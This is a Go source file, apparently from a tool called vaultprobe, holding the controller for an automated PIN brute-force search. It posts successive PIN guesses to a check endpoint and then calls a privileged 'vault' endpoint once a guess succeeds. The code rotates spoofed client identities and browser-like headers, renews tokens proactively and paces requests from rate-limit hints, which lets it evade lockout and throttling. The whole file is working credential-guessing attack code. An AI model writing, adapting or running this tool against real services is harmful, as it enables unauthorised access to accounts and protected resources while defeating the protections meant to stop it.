// Package control runs the adaptive credential search.
//
// The Controller walks the candidate space one attempt at a time through an
// explicit state machine:
//
//	SEARCHING --token needed--> AWAITING_TOKEN --> VERIFYING
//	SEARCHING --token ready---> VERIFYING
//	VERIFYING --success, vault configured--> ACCESSING_PRIVILEGED_RESOURCE
//	VERIFYING|ACCESSING --advance/retry/skip--> SEARCHING
//	any --success/exhausted/fatal--> TERMINATED
//
// Each classified attempt is mapped through Decide to a token action and a
// cursor action. Exactly one request is in flight at a time and the
// controller is the sole owner of the current token.
package control

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"log/slog"
	"math/rand"
	"net/http"
	"sync"
	"time"

	"github.com/google/uuid"

	"github.com/vietddude/vaultprobe/internal/core/cursor"
	"github.com/vietddude/vaultprobe/internal/core/domain"
	"github.com/vietddude/vaultprobe/internal/infra/identity"
	"github.com/vietddude/vaultprobe/internal/infra/transport"
	"github.com/vietddude/vaultprobe/internal/probing/backoff"
	"github.com/vietddude/vaultprobe/internal/probing/classify"
	"github.com/vietddude/vaultprobe/internal/probing/lifecycle"
	"github.com/vietddude/vaultprobe/internal/probing/metrics"
)

// Config holds the search settings.
type Config struct {
	RetryCapPerCandidate       int
	ProactiveRotationThreshold int // 0 disables proactive rotation
	BaseDelay                  time.Duration
	ErrorRetryDelay            time.Duration
	TokenErrorRetryDelay       time.Duration
	RequestTimeout             time.Duration
	Direction                  domain.Direction

	// Start overrides the first candidate. Nil starts at the direction's origin.
	Start *domain.Candidate

	RateLimitDefault time.Duration
	RateLimitMargin  time.Duration
}

// Backoff returns the delay settings for the backoff policy.
func (c Config) Backoff() backoff.Config {
	return backoff.Config{
		ErrorRetryDelay:      c.ErrorRetryDelay,
		TokenErrorRetryDelay: c.TokenErrorRetryDelay,
		RateLimitDefault:     c.RateLimitDefault,
		RateLimitMargin:      c.RateLimitMargin,
	}
}

// Target locates the guarded endpoints as absolute URLs.
type Target struct {
	Name     string
	BaseURL  string
	CheckURL string

	// VaultURL is the privileged resource. Empty means a successful check
	// is itself the final answer.
	VaultURL string
}

// IdentitySource hands out a fresh client identity per attempt.
type IdentitySource interface {
	Next() domain.Identity
}

// Recorder persists inconclusive candidates outside the run.
type Recorder interface {
	Record(ctx context.Context, candidate domain.Candidate, reason string) error
}

// Option configures a Controller.
type Option func(*Controller)

// WithIdentities replaces the identity source.
func WithIdentities(src IdentitySource) Option {
	return func(c *Controller) { c.identities = src }
}

// WithClassifier replaces the default rule table.
func WithClassifier(cl *classify.Classifier) Option {
	return func(c *Controller) { c.classifier = cl }
}

// WithSleeper replaces the wall-clock sleeper used for backoff waits.
func WithSleeper(s backoff.Sleeper) Option {
	return func(c *Controller) { c.sleeper = s }
}

// WithRecorder sets a side log for inconclusive candidates.
func WithRecorder(r Recorder) Option {
	return func(c *Controller) { c.recorder = r }
}

// WithLogger sets the logger.
func WithLogger(l *slog.Logger) Option {
	return func(c *Controller) { c.log = l }
}

// WithClock replaces time.Now.
func WithClock(now func() time.Time) Option {
	return func(c *Controller) { c.now = now }
}

// WithRunID sets the run identifier instead of a random UUID.
func WithRunID(id string) Option {
	return func(c *Controller) { c.runID = id }
}

type pinRequest struct {
	PIN string `json:"pin"`
}

// Controller is the search state machine.
type Controller struct {
	cfg    Config
	target Target
	tr     transport.Transport
	tokens *lifecycle.Manager

	identities IdentitySource
	classifier *classify.Classifier
	policy     *backoff.Policy
	pacer      *backoff.Pacer
	sleeper    backoff.Sleeper
	recorder   Recorder
	log        *slog.Logger
	now        func() time.Time
	runID      string

	iter          *cursor.Iterator
	current       domain.Candidate
	retries       int
	sinceRotation int
	lastToken     string
	res           *Result

	mu     sync.RWMutex
	status Status
}

// New creates a controller. A nil tokens manager means the deployment
// needs no token.
func New(
	cfg Config,
	target Target,
	tr transport.Transport,
	tokens *lifecycle.Manager,
	opts ...Option,
) (*Controller, error) {
	if target.CheckURL == "" {
		return nil, errors.New("check endpoint is required")
	}

	dir, err := domain.ParseDirection(string(cfg.Direction))
	if err != nil {
		return nil, err
	}
	cfg.Direction = dir

	start := dir.Origin()
	if cfg.Start != nil {
		start = *cfg.Start
	}
	iter, err := cursor.NewIterator(start, dir)
	if err != nil {
		return nil, fmt.Errorf("invalid search start: %w", err)
	}

	if tokens == nil {
		tokens = lifecycle.NewManager(tr, lifecycle.Config{})
	}

	c := &Controller{
		cfg:        cfg,
		target:     target,
		tr:         tr,
		tokens:     tokens,
		identities: identity.NewRotator(rand.NewSource(time.Now().UnixNano()), identity.Options{}),
		classifier: classify.Default(),
		policy:     backoff.NewPolicy(cfg.Backoff()),
		pacer:      backoff.NewPacer(cfg.BaseDelay),
		sleeper:    backoff.TimerSleeper{},
		log:        slog.Default(),
		now:        time.Now,
		runID:      uuid.NewString(),
		iter:       iter,
		current:    start,
	}
	for _, opt := range opts {
		opt(c)
	}
	c.log = c.log.With("run_id", c.runID)
	c.status = Status{
		Deployment:  target.Name,
		RunID:       c.runID,
		State:       StateSearching,
		Description: StateDescription(StateSearching),
		Cursor:      start.String(),
		Remaining:   iter.Remaining(),
	}
	return c, nil
}

// RunID returns the identifier attached to logs and the side log.
func (c *Controller) RunID() string {
	return c.runID
}

// Run searches until the credential is found, the space is exhausted or a
// fatal error occurs. EXHAUSTED is reported through the Result with a nil
// error; FATAL returns an error wrapping ErrFatal, and cancellation one
// wrapping ErrCanceled.
func (c *Controller) Run(ctx context.Context) (*Result, error) {
	started := c.now()
	c.res = &Result{RunID: c.runID, Deployment: c.target.Name}

	c.log.Info("Starting search",
		"deployment", c.target.Name,
		"start", c.current,
		"direction", c.iter.Direction(),
		"remaining", c.iter.Remaining(),
		"retry_cap", c.cfg.RetryCapPerCandidate,
		"proactive_threshold", c.cfg.ProactiveRotationThreshold,
		"token_required", c.tokens.Enabled(),
		"privileged_stage", c.target.VaultURL != "",
	)

	state := StateSearching
	for state != StateTerminated {
		next, reason, err := c.step(ctx, state)
		if err != nil {
			return c.abort(err, started)
		}

		t := NewTransition(state, next, reason)
		if !t.IsValid() {
			return c.abort(fmt.Errorf("%w: %s -> %s", ErrInvalidTransition, t.From, t.To), started)
		}
		c.log.Debug("State transition",
			"from", t.From, "to", t.To, "reason", t.Reason, "state", StateDescription(t.To))

		state = next
		c.setState(state, t.Timestamp)
	}

	c.finish(started)
	return c.res, nil
}

// Status returns a snapshot of the running search. Safe for concurrent use.
func (c *Controller) Status() Status {
	c.mu.RLock()
	defer c.mu.RUnlock()
	return c.status
}

func (c *Controller) step(ctx context.Context, state State) (State, string, error) {
	switch state {
	case StateSearching:
		return c.search()
	case StateAwaitingToken:
		return c.awaitToken(ctx)
	case StateVerifying:
		return c.verify(ctx)
	case StateAccessing:
		return c.access(ctx)
	default:
		return StateTerminated, "", fmt.Errorf("%w: unknown state %q", ErrInvalidTransition, state)
	}
}

// search selects the candidate for the next attempt and decides whether
// the token must be renewed first.
func (c *Controller) search() (State, string, error) {
	cand, err := c.iter.Peek()
	if errors.Is(err, cursor.ErrExhausted) {
		c.res.Terminal = TerminalExhausted
		c.res.Reason = c.exhaustedReason()
		return StateTerminated, "space exhausted", nil
	}
	if err != nil {
		return StateTerminated, "", err
	}
	c.current = cand
	metrics.Cursor.WithLabelValues(c.target.Name).Set(float64(cand))

	if !c.tokens.Enabled() {
		return StateVerifying, "no token required", nil
	}

	if limit := c.cfg.ProactiveRotationThreshold; limit > 0 && c.sinceRotation >= limit && !c.tokens.NeedsToken() {
		c.log.Info("Proactive token rotation",
			"attempts_on_token", c.sinceRotation, "threshold", limit)
		c.tokens.BeginRotation("proactive")
	}

	if c.tokens.NeedsToken() {
		return StateAwaitingToken, string(c.tokens.Current().State), nil
	}
	return StateVerifying, "token active", nil
}

// awaitToken blocks until the lifecycle manager hands out a usable token.
// Failure here is fatal to the run.
func (c *Controller) awaitToken(ctx context.Context) (State, string, error) {
	tok, err := c.tokens.Usable(ctx)
	if err != nil {
		return StateTerminated, "token lifecycle failed", fmt.Errorf("obtain token: %w", err)
	}
	c.adopt(tok)
	return StateVerifying, "token ready", nil
}

func (c *Controller) verify(ctx context.Context) (State, string, error) {
	cand := c.current
	out, err := c.attempt(ctx, c.target.CheckURL, cand)
	if err != nil {
		return StateTerminated, "", err
	}

	d := Decide(out.Class, c.retries, c.cfg.RetryCapPerCandidate)
	if d.Candidate == Finish {
		if c.target.VaultURL != "" {
			c.log.Info("Candidate verified", "candidate", cand, "response", string(out.Payload))
			return StateAccessing, "candidate verified", nil
		}
		c.succeed(cand, out.Payload)
		return StateTerminated, "credential accepted", nil
	}

	if err := c.apply(ctx, cand, out, d); err != nil {
		return StateTerminated, "", err
	}
	return StateSearching, string(d.Candidate), nil
}

// access performs the privileged call for a verified candidate. A stale
// token is refreshed once; if that fails only this candidate's privileged
// attempt is abandoned.
func (c *Controller) access(ctx context.Context) (State, string, error) {
	cand := c.current

	if c.tokens.CanInspect() {
		insp, err := c.tokens.Validate(ctx)
		if err != nil || !insp.Valid {
			if ctx.Err() != nil {
				return StateTerminated, "", ctx.Err()
			}
			c.log.Warn("Token stale before privileged access, refreshing",
				"candidate", cand, "token", c.tokens.Current().Short(), "reason", staleReason(insp, err))

			c.tokens.BeginRotation("stale before privileged access")
			tok, err := c.tokens.Usable(ctx)
			if err != nil {
				if ctx.Err() != nil {
					return StateTerminated, "", ctx.Err()
				}
				c.log.Error("Token refresh failed, skipping privileged attempt",
					"candidate", cand, "error", err)
				c.markInconclusive(ctx, cand, "", "token refresh before privileged access failed")
				c.advance()
				return StateSearching, "privileged refresh failed", nil
			}
			c.adopt(tok)
		}
	}

	out, err := c.attempt(ctx, c.target.VaultURL, cand)
	if err != nil {
		return StateTerminated, "", err
	}
	if out.Class == domain.ClassSuccess {
		c.succeed(cand, out.Payload)
		return StateTerminated, "privileged resource accessed", nil
	}

	c.log.Warn("Privileged access failed",
		"candidate", cand, "class", out.Class, "status", out.Status, "message", out.Message)

	switch out.Class {
	case domain.ClassTokenInvalid, domain.ClassRateLimited, domain.ClassTransient:
		// The retry passes through VERIFYING again, which re-opens the vault.
		d := Decide(out.Class, c.retries, c.cfg.RetryCapPerCandidate)
		if err := c.apply(ctx, cand, out, d); err != nil {
			return StateTerminated, "", err
		}
		return StateSearching, "privileged " + string(d.Candidate), nil
	default:
		c.markInconclusive(ctx, cand, out.Class, "privileged access rejected")
		c.advance()
		return StateSearching, "privileged access rejected", nil
	}
}

// attempt issues one guarded request for cand and classifies the response.
// The only error is context cancellation.
func (c *Controller) attempt(ctx context.Context, url string, cand domain.Candidate) (domain.Outcome, error) {
	if err := c.pacer.Wait(ctx); err != nil {
		return domain.Outcome{}, err
	}

	id := c.identities.Next()
	tok := c.tokens.Current()

	header := transport.BrowserHeaders(c.target.BaseURL)
	for k, v := range id.Headers {
		header.Set(k, v)
	}
	header.Set("Content-Type", "application/json")
	if c.tokens.Enabled() && c.tokens.TokenHeader() != "" && tok.Value != "" {
		header.Set(c.tokens.TokenHeader(), tok.Value)
	}

	body, err := json.Marshal(pinRequest{PIN: cand.String()})
	if err != nil {
		return domain.Outcome{}, err
	}

	started := c.now()
	resp := c.tr.Send(ctx, transport.Request{
		Method:  http.MethodPost,
		URL:     url,
		Header:  header,
		Body:    body,
		Timeout: c.cfg.RequestTimeout,
	})
	metrics.AttemptLatency.WithLabelValues(c.target.Name).Observe(c.now().Sub(started).Seconds())

	if resp.Failed() && ctx.Err() != nil {
		return domain.Outcome{}, ctx.Err()
	}

	out := c.classifier.Classify(resp.Status, resp.Header, resp.Body)
	c.res.Attempts++
	if !resp.Failed() {
		c.sinceRotation++
	}
	metrics.AttemptsTotal.WithLabelValues(c.target.Name, string(out.Class)).Inc()

	attrs := []any{
		"candidate", cand,
		"class", out.Class,
		"status", out.Status,
		"rule", out.Rule,
		"identity", id.SourceAddress,
	}
	if tok.Value != "" {
		attrs = append(attrs, "token", tok.Short())
	}
	if resp.Err != nil {
		attrs = append(attrs, "error", resp.Err)
	}
	c.log.Debug("Attempt classified", attrs...)

	c.publish()
	return out, nil
}

// apply carries out a non-terminal decision: wait, act on the token, then
// move or hold the cursor.
func (c *Controller) apply(ctx context.Context, cand domain.Candidate, out domain.Outcome, d Decision) error {
	wait, reason := c.policy.Delay(out, d.Candidate == Retry)
	if wait > 0 {
		c.log.Info("Backing off",
			"candidate", cand, "class", out.Class, "wait", wait, "reason", reason, "hinted", out.HasHint)
		metrics.BackoffSecondsTotal.WithLabelValues(c.target.Name, string(reason)).Add(wait.Seconds())
		if err := c.sleeper.Sleep(ctx, wait); err != nil {
			return err
		}
	}

	if d.Token == RotateToken {
		c.dropToken(out.Class)
	}

	switch d.Candidate {
	case Retry:
		c.retries++
		c.log.Debug("Retrying candidate",
			"candidate", cand, "retry", c.retries, "cap", c.cfg.RetryCapPerCandidate)
	case Skip:
		c.markInconclusive(ctx, cand, out.Class,
			fmt.Sprintf("retry cap reached after %d attempts", c.retries+1))
		c.advance()
	case Advance:
		if d.Inconclusive {
			c.markInconclusive(ctx, cand, out.Class, "unrecognized response: "+out.Message)
		}
		c.advance()
	}
	return nil
}

// dropToken hands the current token back to the lifecycle manager for
// replacement. Deployments without tokens rely on identity rotation alone.
func (c *Controller) dropToken(class domain.Class) {
	if !c.tokens.Enabled() {
		return
	}
	if class == domain.ClassTransient {
		c.tokens.BeginRotation("repeated transient errors")
		return
	}
	c.tokens.Invalidate(string(class))
}

// adopt resets the per-token attempt count when the token changed.
func (c *Controller) adopt(tok domain.Token) {
	if tok.Value != c.lastToken {
		c.lastToken = tok.Value
		c.sinceRotation = 0
	}
}

func (c *Controller) advance() {
	c.iter.Advance()
	c.retries = 0
}

func (c *Controller) markInconclusive(ctx context.Context, cand domain.Candidate, class domain.Class, reason string) {
	c.res.Inconclusive = append(c.res.Inconclusive, Inconclusive{
		Candidate: cand,
		Class:     class,
		Reason:    reason,
	})

	label := string(class)
	if label == "" {
		label = "privileged"
	}
	metrics.CandidatesSkippedTotal.WithLabelValues(c.target.Name, label).Inc()
	c.log.Warn("Candidate inconclusive", "candidate", cand, "class", class, "reason", reason)

	if c.recorder == nil {
		return
	}
	if err := c.recorder.Record(ctx, cand, reason); err != nil {
		c.log.Warn("Failed to record inconclusive candidate", "candidate", cand, "error", err)
	}
}

func (c *Controller) succeed(cand domain.Candidate, payload []byte) {
	c.res.Terminal = TerminalSuccess
	c.res.Candidate = cand
	c.res.Payload = payload
	c.res.Reason = "credential accepted"
	c.log.Info("Credential found", "candidate", cand, "payload", string(payload))
}

func (c *Controller) abort(err error, started time.Time) (*Result, error) {
	c.res.Terminal = TerminalFatal
	c.res.Reason = err.Error()
	c.setState(StateTerminated, c.now())
	c.finish(started)

	if errors.Is(err, context.Canceled) || errors.Is(err, context.DeadlineExceeded) {
		return c.res, fmt.Errorf("%w: %w", ErrCanceled, err)
	}
	return c.res, fmt.Errorf("%w: %w", ErrFatal, err)
}

func (c *Controller) finish(started time.Time) {
	c.res.Elapsed = c.now().Sub(started)
	c.res.Rotations = c.tokens.Rotations()
	c.publish()

	attrs := []any{
		"terminal", c.res.Terminal,
		"attempts", c.res.Attempts,
		"rotations", c.res.Rotations,
		"inconclusive", len(c.res.Inconclusive),
		"elapsed", c.res.Elapsed,
	}
	switch c.res.Terminal {
	case TerminalSuccess:
		c.log.Info("Search finished", append(attrs, "candidate", c.res.Candidate)...)
	case TerminalExhausted:
		c.log.Warn("Search finished", append(attrs, "reason", c.res.Reason)...)
	default:
		c.log.Error("Search aborted", append(attrs, "cursor", c.current, "reason", c.res.Reason)...)
	}
}

// exhaustedReason describes the traversed range. A run resumed from a start
// other than the origin never covered the candidates before it.
func (c *Controller) exhaustedReason() string {
	dir := c.iter.Direction()
	start, origin := c.iter.Start(), dir.Origin()
	if start == origin {
		return fmt.Sprintf("all %d candidates attempted without success", c.iter.Visited())
	}

	last := domain.MaxCandidate
	if dir == domain.DirectionDescending {
		last = domain.MinCandidate
	}
	skippedTo := start - domain.Candidate(dir.Step())
	return fmt.Sprintf("partial range %s-%s attempted without success (%d candidates); %s-%s before start %s not attempted",
		start, last, c.iter.Visited(), origin, skippedTo, start)
}

func (c *Controller) setState(s State, at time.Time) {
	c.mu.Lock()
	c.status.State = s
	c.status.Description = StateDescription(s)
	c.status.UpdatedAt = at
	c.mu.Unlock()
}

func (c *Controller) publish() {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.status.Cursor = c.current.String()
	c.status.Remaining = c.iter.Remaining()
	c.status.Attempts = c.res.Attempts
	c.status.Rotations = c.tokens.Rotations()
	c.status.Inconclusive = len(c.res.Inconclusive)
	c.status.Token = c.tokens.Current().Short()
	c.status.Terminal = c.res.Terminal
	c.status.UpdatedAt = c.now()
}

func staleReason(insp lifecycle.Inspection, err error) string {
	if err != nil {
		return err.Error()
	}
	return insp.Reason
}
